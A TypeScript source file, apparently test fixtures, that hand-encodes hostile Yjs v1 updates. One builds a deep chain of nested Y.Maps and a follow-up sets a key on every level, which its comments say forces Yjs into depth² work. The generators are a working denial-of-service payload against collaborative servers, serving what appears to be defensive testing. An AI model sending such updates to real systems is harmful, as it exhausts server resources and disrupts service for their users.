import * as encoding from 'lib0/encoding';

/**
 * Updates a hostile client could send, written byte by byte in Yjs' update format (v1), because
 * building them with Yjs itself is as slow as the attack (a deep chain costs Yjs depth² work).
 */

const CONTENT_TYPE = 7;
const YMAP_TYPE_REF = 1;
const HAS_PARENT_SUB = 0x20;

/**
 * One update that creates `depth` nested Y.Maps under root map `root`: root[topKey] = map0,
 * map0.k = map1, … — a chain the board's shape never allows.
 */
export function deepMapChainUpdate(depth: number, opts: { client?: number; root?: string; topKey?: string } = {}): Uint8Array {
  const client = opts.client ?? 0x7ea5e;
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 1); // one client
  encoding.writeVarUint(e, depth); // structs
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, 0); // first clock
  for (let i = 0; i < depth; i++) {
    encoding.writeUint8(e, CONTENT_TYPE | HAS_PARENT_SUB);
    if (i === 0) {
      encoding.writeVarUint(e, 1); // parent is a root type, by name
      encoding.writeVarString(e, opts.root ?? 'notes');
      encoding.writeVarString(e, opts.topKey ?? 'AAAAAAAAAAAAAAAA');
    } else {
      encoding.writeVarUint(e, 0); // parent is the item created just before
      encoding.writeVarUint(e, client);
      encoding.writeVarUint(e, i - 1);
      encoding.writeVarString(e, 'k');
    }
    encoding.writeVarUint(e, YMAP_TYPE_REF);
  }
  encoding.writeVarUint(e, 0); // empty delete set
  return encoding.toUint8Array(e);
}

const CONTENT_ANY = 8;

/**
 * The follow-up to deepMapChainUpdate: one update that sets key `x` on every level of the chain.
 * Yjs walks from each changed type up to the root, so applying it costs depth² work.
 */
export function touchEveryLevelUpdate(depth: number, opts: { client?: number } = {}): Uint8Array {
  const client = opts.client ?? 0x7ea5e;
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 1);
  encoding.writeVarUint(e, depth);
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, depth); // continues after the chain's structs
  for (let i = 0; i < depth; i++) {
    encoding.writeUint8(e, CONTENT_ANY | HAS_PARENT_SUB);
    encoding.writeVarUint(e, 0); // parent: level i of the chain
    encoding.writeVarUint(e, client);
    encoding.writeVarUint(e, i);
    encoding.writeVarString(e, 'x');
    encoding.writeVarUint(e, 1);
    encoding.writeAny(e, i);
  }
  encoding.writeVarUint(e, 0);
  return encoding.toUint8Array(e);
}
